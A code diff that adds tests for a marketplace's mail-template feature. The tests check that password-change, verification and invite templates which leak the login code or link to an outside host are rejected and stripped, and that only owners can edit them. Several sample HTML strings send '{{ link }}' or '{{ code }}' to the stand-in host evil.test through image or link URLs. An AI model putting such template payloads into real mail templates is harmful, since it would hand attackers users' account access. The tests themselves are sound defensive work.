@@ -236,6 +236,54 @@ it('goes out only where all of its conditions hold, but to who tries it', async 
   await keep([]);
 });
 
+describe('a mail that lets its reader in', () => {
+  const secret = ['auth-change-password', 'auth-verify', 'auth-invite'] as const;
+
+  it('carries its code or link nowhere but to its own link', async () => {
+    for (const template of secret)
+      for (const html of [
+        '<p>Hello</p><img src="https://evil.test/p.png?c={{ link | url_encode }}">',
+        '<p>Hello</p><img src="https://shop.test/logo.png">',
+        '<p>Hello <a href="https://evil.test/?c={{ link | size }}">here</a></p>',
+        '<p>Hello <a href="{{ link }}&amp;more=1">here</a></p>',
+      ]) {
+        const refused = await server.call('saveTemplate', { template, html }, admin);
+        expect([template, html, refused.status]).toEqual([template, html, 422]);
+        expect(refused.body).toMatchObject({ errors: { html: { code: 'mailLeadsAway' } } });
+      }
+  });
+
+  it('loses an outside address also where its text was kept before that was refused', () => {
+    const store = { shopName: 'Sund', locale: 'en', features: withDefaults({}) };
+    const html =
+      '<p>{{ code }}</p><img src="https://evil.test/{{ code }}"><a href="https://evil.test/{{ code }}">x</a><a href="{{ link }}">y</a>';
+    const values = { code: 'ABCD2345', link: 'https://market.test/app/login?a=1&b=2' };
+    const mail = renderMail(store, 'auth-change-password', values, 'en', { subject: 'x', html });
+    expect(mail.isCut).toBe(true);
+    expect(mail.html).not.toContain('evil.test');
+    expect(mail.html).toContain('href="https://market.test/app/login?a=1&amp;b=2"');
+    expect(mail.html).toContain('ABCD2345');
+  });
+
+  it('is worded by owners alone, who all hear of it', async () => {
+    const change = {
+      template: 'auth-verify',
+      subject: 'Mine',
+      html: '<p><a href="{{ link }}">Go</a></p>',
+    } as const;
+    const manager = await server.call('saveTemplate', change, { ...admin, role: 'manager' });
+    expect([manager.status, manager.body]).toMatchObject([403, { code: 'secretMailByOwners' }]);
+    const before = (await mails('power-changed')).length;
+    expect((await server.call('saveTemplate', change, admin)).status).toBe(200);
+    const told = (await mails('power-changed')).slice(before);
+    expect(told.map(({ recipient }) => recipient)).toContain('admin@main.test');
+    expect(told.map(({ body }) => body).join()).toContain('auth-verify');
+    expect((await server.call('saveTemplate', { ...change, subject: null, html: null }, admin)).status).toBe(
+      200,
+    );
+  });
+});
+
 it('templates are the marketplace’s own', async () => {
   expect((await server.call('readTemplate', { template: 'order-placed' }, fjord)).status).toBe(403);
   const change = { template: 'order-placed', subject: 'Mine' } as const;
